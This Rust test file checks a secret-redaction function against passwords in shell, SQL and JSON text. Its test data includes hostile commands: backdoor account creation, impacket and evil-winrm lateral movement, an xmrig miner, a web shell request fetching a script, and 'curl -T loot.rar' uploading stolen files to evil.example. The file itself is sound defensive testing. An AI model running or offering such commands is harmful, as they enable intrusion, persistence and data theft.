//! Tests passwords in command lines, and similar text that is not a secret.

use super::*;

#[test]
fn a21_a_password_in_a_command_goes_and_the_rest_stays() {
    for (kind, command) in [
        ("assigned_secret", "DB_PASS=¤ ./run.sh"),
        ("assigned_secret", "env SMTP_PASS=¤ MODE=x ./mail"),
        ("assigned_secret", "SSHPASS=¤ sshpass -e ssh root@10.0.0.4"),
        ("assigned_secret", "export TF_VAR_db_pass='¤'"),
        ("cli_password", "gpg --batch --passphrase ¤ -c f"),
        ("cli_password", "cast send --private-key ¤ 1.2.3"),
        ("cli_password", "{\"x\": \"--private-key ¤\"}"),
        ("curl_password", "curl --proxy-user bob:¤ https://x"),
        ("curl_password", "curl -s --user=bob:¤ https://x"),
        ("authorization", "X-Auth-Key: ¤ and more"),
        ("command_password", "mongosh --host h -u admin -p ¤ --quiet"),
        ("command_password", "redis-cli -h r1 -a ¤ KEYS x"),
        ("command_password", "/usr/bin/redis-cli AUTH ¤"),
        ("command_password", "sqlcmd -S db -U sa -P ¤ -Q select"),
        ("command_password", "zip -P ¤ out.zip x"),
        ("command_password", "ldapsearch -x -D cn=a -w ¤ -b dc=corp"),
        ("command_password", "net user backdoor ¤ /add"),
        ("command_password", "cmd.exe /c net.exe user backdoor ¤"),
        ("command_password", r"net use \\dc1\c$ /user:CORP\admin ¤"),
        ("command_password", "smbclient //h/s -U admin%¤ -c ls"),
        ("command_password", "secretsdump.py CORP/admin:¤@10.0.0.5"),
        (
            "command_password",
            "impacket-psexec -k admin:¤@dc1.corp cmd",
        ),
        ("command_password", "crackmapexec smb h -u admin -p ¤ -x id"),
        ("command_password", "evil-winrm -i 10.0.0.9 -u admin -p ¤"),
        ("command_password", "xfreerdp /u:admin /p:¤ /v:10.0.0.1"),
        ("command_password", "cmdkey /add:h /user:u /pass:¤"),
        (
            "command_password",
            "ConvertTo-SecureString ¤ -AsPlainText -Force",
        ),
        ("command_password", "echo root:¤ | chpasswd"),
        ("command_password", "echo ¤ | sudo -S su"),
        ("command_password", "machine api.x.io login bob password ¤"),
        ("mysql_password", "mysqladmin -u root -p¤ status"),
        ("command_password", "7z a -p¤ out.7z /data"),
        ("command_password", "rar a -hp¤ out.rar x"),
    ] {
        let secret = match kind {
            "cli_password" if command.contains("private-key") => format!("0x{}", hex_noise(64)),
            "authorization" => hex_noise(37),
            _ => "Winterberg1703#".to_owned(),
        };
        let clean = command.replace('¤', &format!("[redacted:{kind}]"));
        assert_eq!(
            redact(&command.replace('¤', &secret)),
            (Cow::Owned(clean), 1)
        );
    }
    for (command, clean) in [
        ("redis-cli -a 'two words' KEYS x", "redis-cli -a ¤ KEYS x"),
        ("sqlcmd -P \"two words\" -Q x", "sqlcmd -P ¤ -Q x"),
        ("sqlcmd -P \"two words that were cut", "sqlcmd -P ¤"),
    ] {
        let clean = clean.replace('¤', "[redacted:command_password]");
        assert_eq!(redact(command), (Cow::Owned(clean), 1));
    }
}

#[test]
fn a21_a_program_has_a_path_and_letters_of_its_own() {
    for command in [
        "cd /tmp;/usr/bin/unzip -P ¤ out.zip",
        r"C:\tools\mongosh.exe -u admin -p ¤",
        r"net use \\dc1\c$ ¤ /user:CORP\admin",
        r"NET USE Z: \\dc1\c$ ¤",
        r"PsExec64.exe \\dc1 -u admin -p ¤ cmd",
        "SQLCMD.EXE -S db -U sa -P ¤",
        "mysqladmin -h db -u root password ¤ reload",
        r#""C:\Program Files (x86)\WinRAR\Rar.exe" a -hp¤ o.rar"#,
    ] {
        let clean = command.replace('¤', "[redacted:command_password]");
        assert_eq!(
            redact(&command.replace('¤', "Winterberg1703#")),
            (Cow::Owned(clean), 1)
        );
    }
}

#[test]
fn a21_what_stands_where_others_have_passwords_stays() {
    for text in [
        "mongosh --host h -u admin -p --quiet",
        "mongodump --port 27017 --out /tmp/dump -p",
        "mysql -P 3306 -u root -p",
        "gzip -9 x; ssh -P 2222 host",
        "msbuild x.sln /p:Configuration=Release /p:Platform=x64",
        "net user backdoor /add",
        "net user backdoor | find \"Active\"",
        "the net user account was disabled by the owner",
        r"net use \\dc1\c$ /user:CORP\admin *",
        r"net use \\dc1\c$ * /user:CORP\admin",
        r"net use Z: \\dc1\c$ /persistent:no",
        r"net use \\dc1\c$ & whoami",
        "net user && whoami",
        "net user & ipconfig",
        "net user | more",
        "net user > users.txt",
        "net user; Get-Process",
        "net user alice; whoami",
        r"net use \\dc1\c$; whoami",
        r"net use \\dc1\c$ /user:CORP\admin; whoami",
        "ansible-playbook --private-key /home/ops/.ssh/id_ed25519 site.yml",
        "gpg --passphrase-file /run/secrets/gpg -c f",
        "deploy.py registry.io/app:1.2.3@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "scan.py https://evil.com/a:b and mail@evil.com",
        "BYPASS=enabled-for-all first_pass=complete",
        "ConvertTo-SecureString $p -AsPlainText -Force",
        "cat users.txt | chpasswd; echo hello world | tee x",
        "xmrig -o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ -p x -k",
        "https://evil.com/?code=404&auth=basic&state=open",
        "/index.php?code=system%28%27wget%20http%3A%2F%2F203.0.113.9%2Fx.sh%27%29",
        "/index.php?code=phpinfo();die(md5(31337))&auth=../../../../../../etc/passwd",
        "https://evil.com/login?user=bob@corp.example",
        "smbclient //h/s -U admin -c ls",
        "ldapsearch -x -W -D cn=admin -b dc=corp",
        "7z x -y a.7z -o/tmp",
        "wget https://evil.example/tools.zip -P /tmp/.hidden",
        "wget https://evil.example/zip -P /tmp/.hidden",
        r"Compress-Archive -DestinationPath C:\t\loot.zip -Path C:\Finance",
        "docker run -d --name mongo -p 0.0.0.0:27017:27017 mongo:7",
        "docker run -d --name mongo -p 27017:27017/tcp mongo:7",
        "curl -T loot.rar -proxy 10.0.0.1 https://evil.example",
    ] {
        assert_eq!(redact(text), (Cow::Borrowed(text), 0));
    }
}

#[test]
fn a21_a_password_in_any_option_goes() {
    for command in [
        "aws rds create-db-instance --master-user-password ¤ --engine mysql",
        "az vm create --admin-password ¤ -n x",
        "wget --http-user bob --http-password ¤ https://x",
        "app --db-password=¤ --new-password ¤",
        "app --access-token ¤ --auth-token=¤ -x",
        "s3 --secret-access-key ¤ --secret-key ¤ --api-key ¤",
        "aws secretsmanager put-secret-value --secret-id db --secret-string ¤",
        "New-LocalUser bob -Password ¤",
        "Connect-App -ClientSecret ¤ -ApiKey ¤ -AccountPassword:¤",
        "app --smtp-pass ¤ --PASSWORD ¤",
        r#"["app --gitlab-token ¤"]"#,
        "app --storage-account-key ¤",
    ] {
        let clean = command.replace('¤', "[redacted:cli_password]");
        let count = command.matches('¤').count();
        for secret in ["Winterberg1703#", "'Winter; berg & 1703'"] {
            if secret.contains(' ') && command.contains('[') {
                continue;
            }
            let text = command.replace('¤', secret);
            assert_eq!(redact(&text), (Cow::Owned(clean.clone()), count));
        }
        assert_eq!(redact(&clean), (Cow::Borrowed(clean.as_str()), 0));
    }
    for text in [
        "docker login --password-stdin evil.com",
        "app --token-file /run/token --password-file /run/pw --password-policy strict",
        "aws iam update-account-password-policy --require-numbers",
        "aws secretsmanager get-secret-value --secret-id prod/db --version-stage AWSCURRENT",
        "aws secretsmanager put-secret-value --secret-string file://new.json",
        "aws logs filter-log-events --next-token 0123abcd --starting-token page-two",
        "adduser --disabled-password bobby; psql --no-password maindb",
        "aws rds create-db-instance --manage-master-user-password true",
        "Set-LocalUser bob -Password (Read-Host -AsSecureString)",
        "gsutil --public-key main.pub; app --key-name main-key --license-key-path /x/main",
        "the user-password flow, and a one-token limit",
    ] {
        assert_eq!(redact(text), (Cow::Borrowed(text), 0));
    }
}

#[test]
fn a21_a_password_in_sql_goes() {
    for statement in [
        "CREATE USER a IDENTIFIED BY ¤",
        "mysql -e \"create user 'a'@'%' identified with caching_sha2_password by ¤ require ssl\"",
        "GRANT ALL ON db.* TO 'a'@'10.0.0.1' IDENTIFIED BY ¤ WITH GRANT OPTION",
        "ALTER USER bob WITH PASSWORD ¤",
        "create role bob login encrypted password ¤ valid until 'infinity'",
        "CREATE LOGIN bob WITH PASSWORD = N¤, CHECK_POLICY = OFF",
        "SET PASSWORD FOR 'a'@'h' = PASSWORD(¤)",
    ] {
        for secret in [
            "'Winterberg1703#'",
            "'two words; (x)'",
            "\"Winterberg1703#\"",
        ] {
            if secret.starts_with('"') && statement.contains('"') {
                continue;
            }
            let clean = statement.replace('¤', "[redacted:sql_password]");
            assert_eq!(
                redact(&statement.replace('¤', secret)),
                (Cow::Owned(clean), 1)
            );
        }
    }
    assert_eq!(
        redact("ALTER USER scott IDENTIFIED BY tiger12;").0,
        "ALTER USER scott IDENTIFIED BY [redacted:sql_password];"
    );
    for text in [
        "Create a ticket for the host identified by GuardDuty.",
        "CREATE USER 'bob'@'10.0.0.1' REQUIRE SSL",
        "ALTER USER bob PASSWORD EXPIRE",
        "the user was seen with password spraying tools",
    ] {
        assert_eq!(redact(text), (Cow::Borrowed(text), 0));
    }
}

#[test]
fn a21_what_is_assigned_in_quotes_goes_whole() {
    for (text, clean) in [
        ("DB_PASSWORD='¤' x", "Winter;berg1703(x)"),
        ("DB_PASSWORD=\"¤\" x", "two words, {x} 'here'"),
        (r#"{"password":"¤","user":"bob"}"#, "Winter&berg1703"),
        (r#"{"env":{"DB_PASSWORD":"¤"}}"#, "W1nt&rberg1703"),
        (r#"{"password": "¤", "n": 1}"#, "two words here"),
        (r#"{"password": "¤", "n": 1}"#, r#"a \"quoted\" word"#),
        (
            r#"{"a":"{\"password\":\"¤\",\"b\":1}"}"#,
            "Winter<berg>1703",
        ),
        (
            r#"{"a":"{\"password\":\"¤\",\"b\":1}"}"#,
            r#"Win\\\"ter;berg"#,
        ),
        (r#"[\\\"token\\\": \\\"¤\\\", \\\"b\\\"]"#, "Winter(berg)"),
        ("SMTP_PASS='¤' ./mail", "Winter & berg"),
        ("{'secret': '¤', 'user': 'bob'}", "Winter, berg"),
        (r"x(\'api_key\': \'¤\', \'b\')", "Winter, berg"),
        ("password=\"¤", "two words that were cut"),
    ]
    .map(|(text, secret)| {
        (
            text.replace('¤', secret),
            text.replace('¤', "[redacted:assigned_secret]"),
        )
    }) {
        assert_eq!(redact(&text), (Cow::Borrowed(clean.as_str()), 1), "{text}");
        assert_eq!(redact(&clean), (Cow::Borrowed(clean.as_str()), 0));
    }
    for (text, clean) in [
        ("password=Winterberg;x=1&y", "password=¤;x=1&y"),
        (
            r#"{"token": "https://x.example/?a=b&password=Winterberg&c"}"#,
            r#"{"token": "https://x.example/?a=b&password=¤&c"}"#,
        ),
        (
            r#"DB_PASSWORD="${DB_PASSWORD:-Winterberg}" x"#,
            r#"DB_PASSWORD="${DB_PASSWORD:¤}" x"#,
        ),
    ] {
        let clean = clean.replace('¤', "[redacted:assigned_secret]");
        assert_eq!(redact(text), (Cow::Owned(clean), 1));
    }
    for text in [
        r#"DB_PASSWORD="$(aws secretsmanager get-secret-value --secret-id x)" ./run"#,
        r#"password: "{{ vault.db }}" # token: "<your token>""#,
        r#"{"password":"","user":"bob smith"}"#,
        "log('bad password:', user, 'of the host')",
        "said 'no password:' and 'no name'",
    ] {
        assert_eq!(redact(text), (Cow::Borrowed(text), 0));
    }
}
